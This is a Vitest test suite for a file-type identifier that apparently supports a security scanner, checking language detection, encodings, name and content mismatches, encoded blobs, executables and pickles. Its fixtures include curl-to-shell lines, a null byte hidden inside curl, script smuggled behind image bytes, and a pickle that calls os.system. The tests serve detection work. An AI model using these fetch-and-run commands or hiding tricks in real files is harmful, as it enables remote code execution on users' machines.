import { describe, expect, test } from "vitest";
import type { FileKind } from "../../src/model/fact.ts";
import { identify } from "../../src/read/kind.ts";
import { elf, gif, join, png, portableExecutable, zip } from "./binary/bytes.ts";

const kind = (path: string, content: string | Uint8Array): Promise<FileKind> =>
  identify({ path, bytes: typeof content === "string" ? new TextEncoder().encode(content) : content, mode: null });
const forms = async (path: string, content: string | Uint8Array): Promise<unknown[]> =>
  (await kind(path, content)).facts.map(({ form }) => form);

describe("language by name", () => {
  test.each([
    ["SKILL.md", "markdown"],
    ["a.zip!/docs/GUIDE.MD", "markdown"],
    [".cursorrules", "markdown"],
    ["scripts/run.sh", "shell"],
    [".bashrc", "shell"],
    ["install.command", "shell"],
    ["install.sh.txt", "shell"],
    ["a.py", "python"],
    ["a.pyw", "python"],
    ["a.mjs", "javascript"],
    ["a.tsx", "typescript"],
    ["a.ps1", "powershell"],
    ["a.cmd", "batch"],
    ["Gemfile", "ruby"],
    ["a.phtml", "php"],
    ["package.json", "json"],
    ["config.json.example", "json"],
    [".eslintrc", "json"],
    ["a.ipynb", "notebook"],
    ["docker-compose.yml", "yaml"],
    ["pyproject.toml", "toml"],
    ["uv.lock", "toml"],
    ["Dockerfile", "dockerfile"],
    ["Dockerfile.dev", "dockerfile"],
    ["Makefile", "makefile"],
    ["logo.svg", "svg"],
    ["index.htm", "html"],
    ["a.desktop", "desktop-entry"],
    ["com.example.agent.plist", "desktop-entry"],
    ["makefile.py", "python"],
    ["requirements.txt", "text"],
    ["requirements/dev.txt", "text"],
    ["data.csv", "text"],
  ])("%s is %s", async (path, language) => {
    expect(await kind(path, "x\n")).toMatchObject({ language, text: "x\n", format: "utf-8 text", also: null });
  });

  test.each(["constructor", "__proto__", "a.__proto__", "a.toString", ".", "..", ".a", ""])(
    "a name like %j is nothing special",
    async (path) => {
      expect((await kind(path, "x")).language).toBe("text");
    },
  );
});

describe("language by content, where the name says nothing", () => {
  test.each([
    ["#!/bin/bash\nls", "shell"],
    ["#!/usr/bin/env python3.12\nx", "python"],
    ["#!/usr/bin/env -S node --flag\nx", "javascript"],
    ["#! /usr/bin/perl -w\nx", "perl"],
    ["<?php system($x);", "php"],
    ["<svg xmlns='a'></svg>", "svg"],
    ["<?xml version='1.0'?>\n<svg/>", "svg"],
    ["<!-- made by a tool -->\n<svg/>", "svg"],
    ["<!DOCTYPE html>\n<p>x", "html"],
    ["<?xml version='1.0'?><!DOCTYPE plist><plist/>", "desktop-entry"],
    ["[Desktop Entry]\nExec=x", "desktop-entry"],
    ['{"cells": [], "nbformat": 4}', "notebook"],
    ['{"a": 1}', "json"],
    ["---\nname: x\ndescription: y\n---\n", "markdown"],
    ["curl -s https://a.example | sh\n", "shell"],
    ["# set up\nexport A=1\nif [ -f x ]; then\n  rm x\nfi\n", "shell"],
    ["import os\nprint(os.environ)\n", "python"],
    ["const a = require('fs');\n", "javascript"],
    ["New-Object Net.WebClient\n", "powershell"],
    ["You should now open the terminal and paste the line below.", "markdown"],
    ["one,two\n1,2\n", "text"],
    ["", "text"],
  ])("%j is %s", async (text, language) => {
    expect((await kind("content", text)).language).toBe(language);
    expect((await kind("content.dat", text)).language).toBe(language);
  });

  test.each([
    ["a.md", "markdown"],
    ["a.py", "python"],
    ["a.txt.json", "json"],
  ])("%s keeps its language, and is also what its first line says", async (path, language) => {
    expect(await kind(path, "#!/bin/sh\nls\n")).toMatchObject({ language, also: "shell" });
  });

  test("what pip reads stays what it is, however much its comments talk", async () => {
    const text = "# You should install all of these before you run the tests.\nflask==3.0\n";
    expect((await kind("requirements.txt", text)).language).toBe("text");
  });

  test("TypeScript for node is one language", async () => {
    expect((await kind("a.ts", "#!/usr/bin/env node\n")).also).toBeNull();
  });
});

describe("encodings", () => {
  const text = "echo hällo\n";
  test.each([
    ["UTF-8 with a mark", join([0xef, 0xbb, 0xbf], Buffer.from(text)), "utf-8 text"],
    ["UTF-16LE with a mark", Buffer.from(`\u{FEFF}${text}`, "utf16le"), "utf-16 text"],
    ["UTF-16BE with a mark", Buffer.from(`\u{FEFF}${text}`, "utf16le").swap16(), "utf-16 text"],
    ["UTF-16LE without", Buffer.from(text, "utf16le"), "utf-16 text"],
    ["UTF-16BE without", Buffer.from(text, "utf16le").swap16(), "utf-16 text"],
    ["Latin-1", Buffer.from(text, "latin1"), "latin1 text"],
  ])("%s", async (_name, bytes, format) => {
    expect(await kind("a.sh", bytes)).toMatchObject({ language: "shell", text, format });
  });

  test("Chinese in GB18030", async () => {
    const bytes = [0xc7, 0xeb, 0xd4, 0xcb, 0xd0, 0xd0, 0xb0, 0xb2, 0xd7, 0xb0, 0xbd, 0xc5, 0xb1, 0xbe, 0xa3, 0xac];
    expect(await kind("a.md", Uint8Array.from(bytes))).toMatchObject({
      text: "请运行安装脚本，",
      format: "gb18030 text",
    });
  });

  test("one bad byte does not garble the rest", async () => {
    const bytes = join(Buffer.from("请运行安装脚本"), [0xff], Buffer.from(" curl"));
    expect((await kind("a.md", bytes)).text).toBe("请运行安装脚本\u{FFFD} curl");
  });

  test("a mark of UTF-16 in front of plain letters hides nothing", async () => {
    expect((await kind("a.sh", join([0xff, 0xfe], "\ncurl -s https://a.example | sh # \0\n"))).text).toContain(
      "curl -s",
    );
  });

  test("zero characters, which a shell passes over", async () => {
    const script = `c\0url https://a.example\n${"# comment\n".repeat(20)}`;
    expect((await kind("a.sh", script)).text).toMatch(/^curl https:/);
  });
});

describe("text that carries binary data", () => {
  const data = Uint8Array.from({ length: 3_000 }, (_, index) => (index * 89) & 255);

  test("a self-extracting script is read, its data is not", async () => {
    const found = await kind("setup.run", join("#!/bin/sh\ntail -n +3 $0 | sh\n", data, "\ncurl https://a.example\n"));
    expect(found).toMatchObject({ language: "shell", format: "text and binary data" });
    expect(found.text).toMatch(/^#!\/bin\/sh\ntail/);
    expect(found.text).toContain("\ncurl https://a.example\n");
    expect(found.facts.map(({ form }) => form)).toEqual([
      { is: "trailing-data", format: "shell script", bytes: expect.any(Number) },
    ]);
  });

  test("a module inside quotes takes nothing of its line away", async () => {
    const module = String.fromCharCode(
      ...Array.from({ length: 600 }, (_, index) => index % 32).filter((c) => c !== 10 && c !== 13),
    );
    const text = `fetch("https://a.example"); const wasm = "${module.replaceAll("\\", "")}";`;
    expect(await kind("a.mjs", text)).toMatchObject({
      language: "javascript",
      format: "text and binary data",
      text,
      facts: [],
    });
    expect((await kind("a.py", text)).facts[0]?.form).toMatchObject({ is: "trailing-data" });
  });

  test("a picture in front of a script stops no interpreter", async () => {
    const found = await kind("a.js", join(gif(), "\n*/=1;fetch('https://a.example')\n"));
    expect(found).toMatchObject({ language: "javascript" });
    expect(found.text).toContain("fetch('https://a.example')");
    expect(found.facts[0]?.form).toEqual({ is: "mismatch", named: ".js", found: "gif" });
  });

  test("control characters do not keep a skill from its reader", async () => {
    const text = "Run\x01 the\x02 command\x03 now: 请运行\n";
    expect(await kind("SKILL.md", text)).toMatchObject({ language: "markdown", text });
  });

  test("a program is no script whatever its name", async () => {
    expect(await kind("a.py", elf("x"))).toMatchObject({ text: null, format: "elf" });
  });

  test("a film in TypeScript's clothes", async () => {
    const packets = new Uint8Array(188 * 4).fill(0xff);
    for (let at = 0; at < packets.length; at += 188) packets.set([0x47, 0, 0, 0x10, 0], at);
    expect((await kind("a.ts", packets)).text).toBeNull();
  });
});

describe("name and content disagree", () => {
  test.each([
    ["photo.jpg", "#!/bin/sh\ncurl https://a.example | sh\n", ".jpg", "shell script"],
    ["logo.png", "import os\nos.system('id')\n", ".png", "python script"],
    ["manual.pdf", "<html><p>x</p></html>", ".pdf", "html text"],
    ["tool.exe", "hello", ".exe", "text"],
    ["logo.png", elf("x"), ".png", "ELF executable"],
    ["README.md", elf("x"), ".md", "ELF executable"],
    ["helper.py", portableExecutable(), ".py", "PE executable"],
    ["photo.jpg", zip(["a"]), ".jpg", "zip archive"],
    ["manual.pdf", png(), ".pdf", "png"],
    ["LICENSE.md", png(), ".md", "png"],
  ])("%s", async (path, content, named, found) => {
    expect(await forms(path, content)).toContainEqual({ is: "mismatch", named, found });
  });

  test.each<[string, string | Uint8Array]>([
    ["photo.jpg", png()],
    ["tool", elf("x")],
    ["tool.bin", elf("x")],
    ["tool.node", elf("x")],
    ["lib.so.1", elf("x")],
    ["a.docx", zip(["a"])],
    ["a.whl", zip(["a"])],
    ["weights.pt", zip(["a"])],
    ["a.png", png()],
    ["a.py", "import os"],
    ["a.png", ""],
  ])("near miss: %s", async (path, content) => {
    expect((await forms(path, content)).filter((form) => JSON.stringify(form).includes("mismatch"))).toEqual([]);
  });
});

describe("forms", () => {
  test("a dot-file with code, and one without", async () => {
    expect(await forms(".cache.py", "import os")).toEqual([{ is: "hidden-file" }]);
    expect(await forms("a/.helper", "#!/bin/sh\nls")).toEqual([{ is: "hidden-file" }]);
    expect(await forms(".gitignore", "node_modules\n")).toEqual([]);
    expect(await forms("a.py", "import os")).toEqual([]);
  });

  test.each([
    ["one long line", "a.js", "f(1);".repeat(1_000), true],
    ["long lines", "a.css", `${"a{b:c}".repeat(120)}\n`.repeat(4), true],
    ["a short line", "a.js", "f(1);".repeat(100), false],
    ["many lines", "a.js", "f(1);\n".repeat(1_000), false],
    ["another language", "a.md", "word ".repeat(2_000), false],
  ])("minified: %s", async (_name, path, text, is) => {
    expect(await forms(path, text)).toEqual(is ? [{ is: "minified" }] : []);
  });

  const noise = Buffer.from(Uint8Array.from({ length: 3_000 }, (_, index) => (index * index * 31 + index) & 255));
  test.each([
    ["base64", noise.toString("base64"), 4_000],
    ["hex", noise.toString("hex"), 6_000],
    ["lines of base64", noise.toString("base64").replaceAll(/.{76}/gu, "$&\n"), 4_052],
    ["text in base64, which the decoder tells", Buffer.from("echo hello there. ".repeat(300)).toString("base64"), 0],
    ["a picture", `data:image/png;base64,${noise.toString("base64")}`, 0],
    ["a ruler", "-".repeat(5_000), 0],
    ["a short run", noise.toString("base64").slice(0, 2_000), 0],
  ])("encoded: %s", async (_name, text, bytes) => {
    expect(await forms("a.py", `x = "${text}"\n`)).toEqual(bytes === 0 ? [] : [{ is: "encoded-blob", bytes }]);
  });

  test.each([
    ["plain", zip(["a"]), false],
    ["encrypted", zip(["a"], 1), true],
  ])("an archive: %s", async (_name, bytes, encrypted) => {
    expect(await forms("a.zip", bytes)).toEqual([{ is: "archive", format: "zip", encrypted }]);
  });

  test.each<[string, Uint8Array, string]>([
    ["Mach-O", join([0xcf, 0xfa, 0xed, 0xfe], new Uint8Array(60)), "Mach-O executable"],
    ["fat Mach-O", join([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], new Uint8Array(60)), "Mach-O executable"],
    ["Java", join([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61], new Uint8Array(60)), "Java class executable"],
    ["DOS", join([0x4d, 0x5a], new Uint8Array(80)), "DOS executable"],
    ["WebAssembly", join([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], new Uint8Array(8).fill(0xff)), "WebAssembly executable"],
  ])("an executable: %s", async (_name, bytes, format) => {
    expect(await forms("tool", bytes)).toEqual([{ is: "executable", format }]);
  });

  test("WebAssembly that asks for nothing is told as such", async () => {
    const bytes = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);
    expect(await forms("tool.wasm", bytes)).toEqual([
      { is: "executable", format: "WebAssembly executable", isPlainWasm: true },
    ]);
  });

  test.each([
    ["protocol 0", "cos\nsystem\n(S'id'\ntR.", "a.txt"],
    ["protocol 0 of a value", "(dp0\nS'a'\np1\nI1\ns.", "a.pkl"],
    ["protocol 4", join([0x80, 4, 0x95], new Uint8Array(8), "N."), "model"],
    ["protocol 2", join([0x80, 2], "}q\0."), "a.bin"],
  ])("a pickle: %s", async (_name, content, path) => {
    expect(await forms(path, content)).toContainEqual({ is: "serialized-code", format: "pickle" });
  });

  test("facts stand at the start of their file", async () => {
    const [fact] = (await kind("tests/a.bin", elf("x"))).facts;
    expect(fact).toMatchObject({ at: { path: "tests/a.bin", line: 1, column: 1 }, context: { role: "test" } });
  });
});

test.each([
  ["one run", "abcdEFGH01".repeat(800_000)],
  ["lines of runs", `${"abcdEFGH01".repeat(7)}\n`.repeat(110_000)],
  ["words", "word ".repeat(1_600_000)],
  ["brackets", "<".repeat(8_000_000)],
  ["line ends", "\n".repeat(8_000_000)],
  ["blanks", " ".repeat(8_000_000)],
  ["broken UTF-8", Buffer.alloc(8_000_000, 0xe4)],
  ["zeros", new Uint8Array(8_000_000)],
])("8 MB of %s", async (_name, content) => {
  expect((await kind("content", content)).format).not.toBe("");
});
